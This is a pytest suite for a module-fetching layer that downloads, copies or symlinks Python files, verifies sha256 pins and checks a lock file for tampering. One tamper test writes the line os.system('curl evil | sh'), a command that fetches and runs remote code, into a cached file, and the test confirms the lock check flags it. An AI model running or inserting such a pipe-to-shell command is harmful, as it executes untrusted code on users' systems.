"""The remotes fetching layer against a real HTTP server on 127.0.0.1 and real files."""

from __future__ import annotations

import hashlib
import json
import keyword
import os
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from machinable.errors import RemoteError
from machinable.remotes import (
    REMOTES_DIR,
    FetchedRemote,
    Source,
    check_lock,
    fetch_all,
    fetch_remote,
    lock_path,
    parse_source,
    remote_path,
    sha256_file,
    validate_name,
)

MODULE = b'"""A shareable module."""\n\nVALUE = 42\n\n\ndef hello():\n    return "hi"\n'
MODULE_SHA = hashlib.sha256(MODULE).hexdigest()


# --------------------------------------------------------------------------- helpers


@pytest.fixture
def project(tmp_path: Path) -> Path:
    path = tmp_path / "project"
    path.mkdir()
    return path


def cache_dir(project: Path) -> Path:
    return project.joinpath(*REMOTES_DIR)


def cache_listing(project: Path) -> set[str]:
    """Every entry (hidden ones included) in interface/remotes/, empty if absent."""
    directory = cache_dir(project)
    return set(os.listdir(directory)) if directory.is_dir() else set()


def interface_listing(project: Path) -> set[str]:
    """Entries of interface/, less the hidden file lock that serialises lock-file updates."""
    directory = project / "interface"
    entries = set(os.listdir(directory)) if directory.is_dir() else set()
    return entries - {".remotes.lock.flock"}


def read_lock_json(project: Path) -> dict:
    return json.loads(lock_path(project).read_text())


def assert_refused(project: Path, name: str, source: str, *match: str, **kw) -> RemoteError:
    """Fetching must raise RemoteError mentioning every ``match`` and write nothing."""
    before_cache, before_interface = cache_listing(project), interface_listing(project)
    lock = lock_path(project)
    before_lock = lock.read_bytes() if lock.exists() else None
    with pytest.raises(RemoteError) as info:
        fetch_remote(project, name, source, **kw)
    message = str(info.value)
    for fragment in match:
        assert fragment in message, f"{fragment!r} not in {message!r}"
    assert cache_listing(project) == before_cache
    assert interface_listing(project) == before_interface
    assert (lock.read_bytes() if lock.exists() else None) == before_lock
    return info.value


# --------------------------------------------------------------------------- url+


def test_first_fetch_writes_file_and_lock_entry(project, http_server):
    url = http_server.add("/pkg/slurm.py", MODULE)
    source = f"url+{url}"

    result = fetch_remote(project, "slurm", source)

    path = project / "interface" / "remotes" / "slurm.py"
    assert result == FetchedRemote("slurm", source, path, MODULE_SHA, fetched=True)
    assert path.read_bytes() == MODULE
    assert not path.is_symlink()
    assert cache_listing(project) == {"slurm.py"}  # no temp leftovers, no __init__.py
    assert interface_listing(project) == {"remotes", "remotes.lock"}
    assert read_lock_json(project) == {"slurm": {"source": source, "sha256": MODULE_SHA}}
    assert http_server.hits["/pkg/slurm.py"] == 1


def test_cached_remote_is_never_downloaded_again(project, http_server):
    url = http_server.add("/slurm.py", MODULE)
    fetch_remote(project, "slurm", f"url+{url}")
    assert http_server.total_hits == 1

    # even if the server would now serve something else, or nothing at all
    http_server.add("/slurm.py", b"VALUE = 'changed'\n")
    again = fetch_remote(project, "slurm", f"url+{url}")
    http_server.remove("/slurm.py")
    third = fetch_remote(project, "slurm", f"url+{url}")

    assert http_server.total_hits == 1
    assert again.fetched is False and third.fetched is False
    assert again.sha256 == MODULE_SHA
    assert remote_path(project, "slurm").read_bytes() == MODULE


def test_fetch_imports_nothing(project, http_server, tmp_path):
    marker = tmp_path / "imported.marker"
    body = f"from pathlib import Path\nPath({str(marker)!r}).write_text('imported')\n"
    url = http_server.add("/sideeffect.py", body)
    modules_before = set(sys.modules)

    result = fetch_remote(project, "sideeffect", f"url+{url}")
    fetch_remote(project, "sideeffect", f"url+{url}")  # cached path too
    check_lock(project, {"sideeffect": f"url+{url}"})

    assert result.path.read_text() == body
    assert not marker.exists()
    assert "sideeffect" not in sys.modules
    assert not any("sideeffect" in m for m in set(sys.modules) - modules_before)


def test_fetch_compiles_without_inheriting_future_flags(project, http_server):
    # `from __future__ import annotations` in remotes.py must not leak into the check:
    # a later __future__ import is a SyntaxError only if nothing else is inherited
    body = b"x = 1\nfrom __future__ import annotations\n"
    url = http_server.add("/late.py", body)
    assert_refused(project, "late", f"url+{url}", "not valid Python")


def test_sha256_pin_accepted(project, http_server):
    url = http_server.add("/pinned.py", MODULE)
    source = f"url+{url}#sha256={MODULE_SHA.upper()}"

    result = fetch_remote(project, "pinned", source)

    assert result.fetched and result.sha256 == MODULE_SHA
    assert read_lock_json(project)["pinned"] == {"source": source, "sha256": MODULE_SHA}
    # a cached file that matches the pin is accepted without a download
    assert fetch_remote(project, "pinned", source).fetched is False
    assert http_server.total_hits == 1


def test_sha256_pin_refused_writes_nothing(project, http_server):
    url = http_server.add("/pinned.py", MODULE)
    wrong = "0" * 64
    assert_refused(
        project, "pinned", f"url+{url}#sha256={wrong}", "sha256 mismatch", wrong, MODULE_SHA
    )
    assert not cache_dir(project).exists() or cache_listing(project) == set()
    assert not lock_path(project).exists()


def test_cached_file_with_wrong_hash_is_refused(project, http_server):
    url = http_server.add("/slurm.py", MODULE)
    fetch_remote(project, "slurm", f"url+{url}")
    path = remote_path(project, "slurm")
    path.write_bytes(b"VALUE = 'tampered'\n")
    tampered = path.read_bytes()

    assert_refused(project, "slurm", f"url+{url}#sha256={MODULE_SHA}", "cached", MODULE_SHA)

    assert path.read_bytes() == tampered  # left alone, not re-downloaded
    assert http_server.total_hits == 1


def test_cached_file_without_lock_entry_gets_one(project):
    path = remote_path(project, "handmade")
    path.parent.mkdir(parents=True)
    path.write_bytes(MODULE)

    result = fetch_remote(project, "handmade", "file+nowhere.py")

    assert result.fetched is False
    assert read_lock_json(project) == {
        "handmade": {"source": "file+nowhere.py", "sha256": MODULE_SHA}
    }


@pytest.mark.parametrize(
    ("status", "reason"), [(404, "Not Found"), (500, "Internal Server Error"), (403, "Forbidden")]
)
def test_http_error_status_is_refused(project, http_server, status, reason):
    url = http_server.add("/broken.py", MODULE, status=status)
    assert_refused(project, "broken", f"url+{url}", url, f"HTTP {status}", reason)


def test_unknown_path_404(project, http_server):
    url = http_server.url("/missing.py")
    assert_refused(project, "missing", f"url+{url}", url, "HTTP 404")


def test_truncated_body_is_refused(project, http_server):
    url = http_server.add("/cut.py", MODULE, truncate=500)
    assert_refused(project, "cut", f"url+{url}", url, "truncated")


def test_truncated_body_that_would_still_be_valid_python(project, http_server):
    # the bytes that did arrive compile fine; only the length check catches this
    url = http_server.add("/cut.py", b"x = 1\n", truncate=1)
    assert_refused(project, "cut", f"url+{url}", "truncated")


def test_slow_response_times_out(project, http_server):
    url = http_server.add("/slow.py", MODULE, delay=2.0)
    assert_refused(project, "slow", f"url+{url}", url, "timed out", timeout=0.5)


def test_body_stalling_mid_download_times_out(project, http_server):
    url = http_server.add("/stall.py", MODULE, delay=2.0, delay_at=10)
    assert_refused(project, "stall", f"url+{url}", url, "timed out", timeout=0.5)


def test_connection_refused(project, http_server):
    url = http_server.url("/x.py")
    http_server.stop()
    assert_refused(project, "x", f"url+{url}", url, "failed", timeout=2)


def test_non_utf8_payload_is_refused(project, http_server):
    url = http_server.add("/latin.py", "NAME = 'café'\n".encode("latin-1"))
    assert_refused(project, "latin", f"url+{url}", "not valid UTF-8")


def test_invalid_python_is_refused(project, http_server):
    url = http_server.add("/page.py", b"<!DOCTYPE html>\n<html><body>Sign in</body></html>\n")
    assert_refused(project, "page", f"url+{url}", "not valid Python")


def test_null_bytes_are_refused(project, http_server):
    url = http_server.add("/nul.py", b"x = 1\x00\n")
    assert_refused(project, "nul", f"url+{url}", "not valid Python")


def test_utf8_bom_is_accepted(project, http_server):
    body = b"\xef\xbb\xbfNAME = 'caf\xc3\xa9'\n"
    url = http_server.add("/bom.py", body)
    assert fetch_remote(project, "bom", f"url+{url}").path.read_bytes() == body


def test_failed_fetch_keeps_other_remotes_and_lock(project, http_server):
    good = http_server.add("/good.py", MODULE)
    fetch_remote(project, "good", f"url+{good}")
    bad = http_server.add("/bad.py", b"def (:\n")
    assert_refused(project, "bad", f"url+{bad}", "not valid Python")
    assert cache_listing(project) == {"good.py"}
    assert set(read_lock_json(project)) == {"good"}


# --------------------------------------------------------------------------- names & sources


@pytest.mark.parametrize("name", ["../x", "a-b", "a.b", "", "1abc", "class", "x/y", "a b"])
def test_invalid_names_are_refused(project, http_server, name):
    url = http_server.add("/mod.py", MODULE)
    error = assert_refused(project, name, f"url+{url}", repr(name))
    assert error.name == name
    assert http_server.total_hits == 0
    assert not (project / "interface").exists()


@given(st.text(max_size=12))
def test_validate_name_matches_python_identifiers(name):
    if name.isidentifier() and not keyword.iskeyword(name):
        assert validate_name(name) == name
    else:
        with pytest.raises(RemoteError):
            validate_name(name)


def test_parse_source(tmp_path):
    project = tmp_path / "p"
    pin = "ab" * 32
    assert parse_source("url+https://h.example/x/slurm.py", project) == Source(
        "url", "https://h.example/x/slurm.py", None
    )
    assert parse_source(f"url+http://h.example/s.py#sha256={pin.upper()}", project) == Source(
        "url", "http://h.example/s.py", pin
    )
    assert parse_source("file+../shared/m.py", project) == Source(
        "file", str((tmp_path / "shared" / "m.py").resolve()), None
    )
    absolute = tmp_path / "abs.py"
    assert parse_source(f"link+{absolute}#sha256={pin}", project) == Source(
        "link", str(absolute.resolve()), pin
    )


@pytest.mark.parametrize(
    ("source", "fragment"),
    [
        ("https://h.example/x.py", "unknown remote source"),
        ("git+https://h.example/x.py", "unknown remote source"),
        ("URL+https://h.example/x.py", "unknown remote source"),
        ("url+ftp://h.example/x.py", "http:// or https://"),
        ("url+https://", "http:// or https://"),
        ("file+", "names no location"),
        ("url+https://h.example/x.py#sha256=abc", "malformed pin"),
        ("url+https://h.example/x.py#md5=" + "0" * 32, "malformed pin"),
        ("file+m.py#sha256=" + "g" * 64, "malformed pin"),
        ("file+m.py#", "malformed pin"),
        ("", "empty"),
    ],
)
def test_bad_sources_are_refused(project, source, fragment):
    with pytest.raises(RemoteError, match=fragment):
        parse_source(source, project)
    assert_refused(project, "mod", source, fragment)


# --------------------------------------------------------------------------- file+ / link+


@pytest.fixture
def shared(tmp_path: Path) -> Path:
    """A sibling folder of the project holding a module to share."""
    folder = tmp_path / "shared"
    folder.mkdir()
    (folder / "common.py").write_bytes(MODULE)
    return folder


def test_file_copies_from_sibling_folder(project, shared):
    result = fetch_remote(project, "common", "file+../shared/common.py")

    assert result.fetched and result.sha256 == MODULE_SHA
    assert not result.path.is_symlink()
    assert result.path.read_bytes() == MODULE
    # a copy: later edits of the source do not reach the cache
    (shared / "common.py").write_text("VALUE = 0\n")
    assert result.path.read_bytes() == MODULE
    assert read_lock_json(project)["common"]["source"] == "file+../shared/common.py"


def test_link_symlinks_to_absolute_path_from_sibling_folder(project, shared):
    result = fetch_remote(project, "common", f"link+../shared/common.py#sha256={MODULE_SHA}")

    assert result.fetched
    assert result.path.is_symlink()
    target = os.readlink(result.path)
    assert os.path.isabs(target)
    assert Path(target) == (shared / "common.py").resolve()
    assert result.path.read_bytes() == MODULE
    assert cache_listing(project) == {"common.py"}
    # a link: later edits of the source show through
    (shared / "common.py").write_text("VALUE = 0\n")
    assert result.path.read_text() == "VALUE = 0\n"


@pytest.mark.parametrize("scheme", ["file", "link"])
def test_missing_local_source_is_refused(project, shared, scheme):
    missing = (shared / "nope.py").resolve()
    assert_refused(project, "nope", f"{scheme}+../shared/nope.py", str(missing), "does not exist")


@pytest.mark.parametrize("scheme", ["file", "link"])
def test_directory_as_local_source_is_refused(project, shared, scheme):
    assert_refused(project, "shared", f"{scheme}+../shared", "not a regular file")


@pytest.mark.parametrize("scheme", ["file", "link"])
def test_local_payload_checks_apply(project, shared, scheme):
    (shared / "bad.py").write_bytes(b"\xff\xfe garbage")
    assert_refused(project, "bad", f"{scheme}+../shared/bad.py", "not valid UTF-8")
    (shared / "bad.py").write_bytes(b"def broken(:\n")
    assert_refused(project, "bad", f"{scheme}+../shared/bad.py", "not valid Python")
    assert_refused(project, "common", f"{scheme}+../shared/common.py#sha256={'1' * 64}", "mismatch")


def test_broken_cached_symlink_is_reported(project, shared):
    fetch_remote(project, "common", "link+../shared/common.py")
    (shared / "common.py").unlink()
    assert_refused(project, "common", "link+../shared/common.py", "broken symlink")
    assert any(
        "broken symlink" in p for p in check_lock(project, {"common": "link+../shared/common.py"})
    )


# --------------------------------------------------------------------------- fetch_all / lock


def test_fetch_all(project, http_server, shared):
    url = http_server.add("/slurm.py", MODULE)
    remotes = {"slurm": f"url+{url}", "common": "file+../shared/common.py"}

    results = fetch_all(project, remotes)

    assert [r.name for r in results] == ["slurm", "common"]
    assert all(r.fetched for r in results)
    assert cache_listing(project) == {"slurm.py", "common.py"}
    lock_text = lock_path(project).read_text()
    assert list(json.loads(lock_text)) == ["common", "slurm"]  # sorted keys
    assert check_lock(project, remotes) == []
    assert [r.fetched for r in fetch_all(project, remotes)] == [False, False]
    assert http_server.total_hits == 1


def test_fetch_all_validates_everything_before_fetching(project, http_server):
    url = http_server.add("/slurm.py", MODULE)
    with pytest.raises(RemoteError, match="bad-name"):
        fetch_all(project, {"slurm": f"url+{url}", "bad-name": f"url+{url}"})
    with pytest.raises(RemoteError, match="unknown remote source"):
        fetch_all(project, {"slurm": f"url+{url}", "other": "svn+x"})
    assert http_server.total_hits == 0
    assert not (project / "interface").exists()


def test_check_lock_detects_tampered_cached_file(project, http_server):
    url = http_server.add("/slurm.py", MODULE)
    remotes = {"slurm": f"url+{url}"}
    fetch_remote(project, "slurm", remotes["slurm"])
    assert check_lock(project, remotes) == []

    remote_path(project, "slurm").write_text("import os\nos.system('curl evil | sh')\n")
    tampered_sha = sha256_file(remote_path(project, "slurm"))

    problems = check_lock(project, remotes)
    assert len(problems) == 1
    assert "slurm" in problems[0] and tampered_sha in problems[0] and MODULE_SHA in problems[0]


def test_check_lock_reports_each_kind_of_problem(project, http_server, shared):
    url = http_server.add("/slurm.py", MODULE)
    fetch_remote(project, "slurm", f"url+{url}")
    fetch_remote(project, "old", "file+../shared/common.py")

    problems = check_lock(
        project,
        {
            "slurm": f"url+{url}?ref=v2",  # source changed
            "globus": f"url+{url}",  # declared, never fetched
        },
    )

    assert len(problems) == 3, problems
    text = "\n".join(problems)
    assert "'slurm'" in text and "?ref=v2" in text
    assert "'globus'" in text and "not fetched" in text
    assert "'old'" in text and "no longer declared" in text


def test_check_lock_reports_cached_file_missing_from_lock_and_pin(project, shared):
    path = remote_path(project, "common")
    path.parent.mkdir(parents=True)
    path.write_bytes(b"VALUE = 1\n")
    problems = check_lock(project, {"common": f"file+../shared/common.py#sha256={MODULE_SHA}"})
    assert any("no entry in the lock" in p for p in problems)
    assert any("pins" in p and MODULE_SHA in p for p in problems)


def test_malformed_lock_file(project, http_server):
    lock_path(project).parent.mkdir(parents=True)
    lock_path(project).write_text("{not json")
    assert "not valid JSON" in check_lock(project, {})[0]
    url = http_server.add("/slurm.py", MODULE)
    assert_refused(project, "slurm", f"url+{url}", "not valid JSON")


def test_sha256_file(tmp_path):
    path = tmp_path / "f"
    path.write_bytes(MODULE * 5000)  # larger than one read chunk
    assert sha256_file(path) == hashlib.sha256(MODULE * 5000).hexdigest()
